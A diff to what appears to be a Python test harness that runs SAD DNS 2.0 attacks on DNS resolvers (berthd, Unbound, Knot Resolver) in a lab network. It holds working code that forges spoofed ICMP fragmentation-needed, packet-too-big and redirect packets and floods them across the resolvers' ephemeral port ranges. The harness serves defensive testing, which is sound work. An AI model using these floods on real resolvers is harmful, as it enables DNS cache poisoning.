@@ -7,7 +7,9 @@ an error for each port of 49152-65535 while a question is out. Three errors, eac
 machine on its link. Two rows:
 
 * `sad-dns-2`: the two about sizes. The weakened build leaves IP_MTU_DISCOVER as it is for any socket.
-* `redirect`: no socket option helps; the kernel has to be told (net.ipv4.conf.*.accept_redirects).
+* `redirect`: no option of a socket keeps that off. Linux obeys redirects unless net.ipv4.conf.*.accept_redirects says
+  no, and `berth check` says so; as shipped, the operator has done it. The weakened one is berthd as shipped on a machine
+  that was left as it is: the exceptions appear, and the note has to be there.
 """
 
 from __future__ import annotations
@@ -15,15 +17,16 @@ from __future__ import annotations
 import struct
 import time
 
-from stage import ip, wire
+from stage import ip, shut, wire
 from stage.attack import Attack, Result, Scene
 from stage.ground import Ground, Host
 from stage.slow import slow, teach_slow
 from stage.targets import Berthd, Kresd, Unbound
 from stage.zones import Servers
 
-PORTS = range(49152, 65536)
-NAME = "%d.mtu-%d."
+PORTS = {"berthd": range(49152, 65536), "unbound": range(1024, 65536), "kresd": range(32768, 61000)}
+WINDOWS = 5
+ZONE = "mtu-%d-%d."  # family and window: an exception stays, so each window has a server of its own
 FAMILIES = (4, 6)
 OUT_S = 0.02
 GATEWAY, OTHER_GATEWAY = "198.18.1.254", "198.18.1.253"  # both are the router's
@@ -33,11 +36,13 @@ ICMP6 = 58
 
 def prepare(servers: Servers) -> None:
     for family in FAMILIES:
-        servers.add("mtu-%d." % family, speech=slow(servers), families=(family,))
+        for number in range(WINDOWS):
+            servers.add(ZONE % (family, number), speech=slow(servers), families=(family,))
 
 
-def exceptions(host: Host) -> set[str]:
-    """What the kernel learnt of routes, a line for each."""
+def exceptions(host: Host, server: str) -> set[str]:
+    """What the kernel learnt of routes, a line for each. It lists an exception only after somebody went that way."""
+    host.run("ip", "route", "get", server)
     lines = host.run("ip", "route", "show", "cache") + host.run("ip", "-6", "route", "show", "cache")
     return {line.split(" dev")[0] for line in lines.splitlines() if not line.startswith(" ")}
 
@@ -50,7 +55,7 @@ class Forger:
         self.target = ground.R.address6 if ":" in server else ground.R.address
         self.sender = ip.RawSender(ground.A)
 
-    def flood(self, kind: int, code: int, rest: bytes) -> None:
+    def flood(self, ports: range, kind: int, code: int, rest: bytes) -> None:
         six = ":" in self.server
         quoted = bytearray(ip.packet(self.target, self.server, ip.UDP, struct.pack("!4H", 0, 53, 40, 0)))
         quoted[4 if six else 2:6 if six else 4] = struct.pack("!H", 40 if six else 60)  # as long as the question was
@@ -59,7 +64,7 @@ class Forger:
             base += ip.ones_sum(ip.ip_address(self.source).packed + ip.ip_address(self.target).packed +
                                 struct.pack("!IHBB", 8 + len(quoted), 0, 0, ICMP6))
         at = 40 if six else 20
-        for port in PORTS:
+        for port in ports:
             quoted[at:at + 2] = struct.pack("!H", port)
             total = base + port
             while total > 0xFFFF:
@@ -71,34 +76,39 @@ class Forger:
         self.sender.close()
 
 
-def ask(scene: Scene, name: str) -> None:
-    """And do not wait."""
-    with scene.ground.C.socket() as sock:
-        sock.sendto(wire.query(name), (scene.ground.R.address, 53))
-    time.sleep(OUT_S)
-
-
-def window(scene: Scene, number: int, family: int, source: str, error: tuple[int, int, bytes]) -> set[str]:
+def window(scene: Scene, number: int, family: int, source: str, error: tuple[int, int, bytes]) -> list[str]:
     """The exceptions that come of one flood while a question is out."""
-    ground, zone = scene.ground, scene.servers.zones[FAMILIES.index(family)]
-    forger = Forger(ground, source, zone.address if family == 4 else zone.address6)
-    before = exceptions(ground.R)
-    ask(scene, NAME % (number, family))
-    forger.flood(*error)
+    ground = scene.ground
+    zone = scene.servers.zones[FAMILIES.index(family) * WINDOWS + number]
+    server = zone.address if family == 4 else zone.address6
+    forger = Forger(ground, source, server)
+    before = exceptions(ground.R, server)
+    with ground.C.socket() as sock:
+        sock.sendto(wire.query("www." + ZONE % (family, number)), (ground.R.address, 53))
+        time.sleep(OUT_S)
+    forger.flood(PORTS[scene.target.program], *error)
     forger.close()
-    return exceptions(ground.R) - before
+    return sorted(exceptions(ground.R, server) - before)
+
+
+def teach(scene: Scene, families: tuple[int, ...]) -> range:
+    """Which windows there will be. Knot Resolver asks a slow server over TCP, so it is better not told."""
+    numbers = range(scene.size(WINDOWS, 2))
+    if scene.target.program != "kresd":
+        teach_slow(scene.target, *(ZONE % (family, number) for family in families for number in numbers))
+    return numbers
 
 
 def run_mtu(scene: Scene) -> Result:
-    teach_slow(scene.target, *(NAME[3:] % family for family in FAMILIES))
-    ground, found = scene.ground, {}
-    for number in range(scene.size(5, 2)):
-        needed = window(scene, 2 * number, 4, ground.A.address, (3, 4, struct.pack("!HH", 0, MTU)))
-        too_big = window(scene, 2 * number + 1, 6, ground.A.address6, (2, 0, struct.pack("!I", MTU6)))
-        found[number] = {"fragmentation needed": sorted(needed), "packet too big": sorted(too_big)}
-    hits = {kind: sum(bool(of[kind]) for of in found.values()) for kind in found[0]}
-    text = ", ".join("%d of %d windows with %s left an exception" % (count, len(found), kind) for kind, count in hits.items())
-    return Result(any(hits.values()), text, {"exceptions": found})
+    numbers = teach(scene, FAMILIES)
+    ground = scene.ground
+    found = {
+        "fragmentation needed": [window(scene, n, 4, ground.A.address, (3, 4, struct.pack("!HH", 0, MTU))) for n in numbers],
+        "packet too big": [window(scene, n, 6, ground.A.address6, (2, 0, struct.pack("!I", MTU6))) for n in numbers],
+    }
+    text = ", ".join("%d of %d windows with \"%s\" left an exception" % (sum(map(bool, of)), len(of), kind)
+                     for kind, of in found.items())
+    return Result(any(map(any, found.values())), text, found)
 
 
 def two_gateways(ground: Ground) -> None:
@@ -109,13 +119,30 @@ def two_gateways(ground: Ground) -> None:
         sock.sendto(b"", (OTHER_GATEWAY, 9))  # the resolver has met it before
 
 
+class Settled(Berthd):
+    """berthd as shipped, on a machine whose operator did what `berth check` asks for, or not."""
+
+    def __init__(self, column: str):
+        super().__init__()
+        self.column = column
+
+    def settle(self) -> None:
+        if self.column == "shipped":
+            for interface in ("all", "default", shut.PREFIX + "up"):
+                self.ground.R.sysctl("net.ipv4.conf.%s.accept_redirects" % interface, 0)
+
+
 def run_redirect(scene: Scene) -> Result:
-    teach_slow(scene.target, NAME[3:] % 4)
-    found = {}
-    for number in range(scene.size(5, 2)):
-        found[number] = sorted(window(scene, number, 4, GATEWAY, (5, 1, wire.address(OTHER_GATEWAY))))
-    hits = sum(map(bool, found.values()))
-    return Result(hits > 0, "%d of %d windows left an exception" % (hits, len(found)), {"exceptions": found})
+    numbers = teach(scene, (4,))
+    found = [window(scene, number, 4, GATEWAY, (5, 1, wire.address(OTHER_GATEWAY))) for number in numbers]
+    hits = sum(map(bool, found))
+    text = "%d of %d windows left an exception" % (hits, len(found))
+    if scene.target.program == "berthd":
+        is_told = any("obeys ICMP redirects" in line["text"] for line in scene.target.control("ports")["lines"])
+        if is_told != (scene.target.column == "weakened"):
+            raise RuntimeError("%s, and the note about redirects is %s" % (text, "there" if is_told else "not there"))
+        text += ", and berth check warns of it" if is_told else ""
+    return Result(hits > 0, text, {"exceptions": found})
 
 
 ATTACKS = [
@@ -136,12 +163,12 @@ ATTACKS = [
         name="redirect",
         title="forged ICMP redirects for the port of a question",
         reference="Man et al. 2021 (SAD DNS 2.0); CVE-2021-20322",
-        defence="?",
-        weakness="?",
+        defence="none in berthd; the preflight tells the operator to switch redirects off",
+        weakness="nothing in berthd: the kernel obeys redirects, as it does unless it is told not to",
         prepare=prepare,
         run=run_redirect,
-        shipped=Berthd,
-        weakened=lambda: Berthd("pmtu"),
+        shipped=lambda: Settled("shipped"),
+        weakened=lambda: Settled("weakened"),
         peers=[Unbound, Kresd],
         change_ground=two_gateways,
     ),
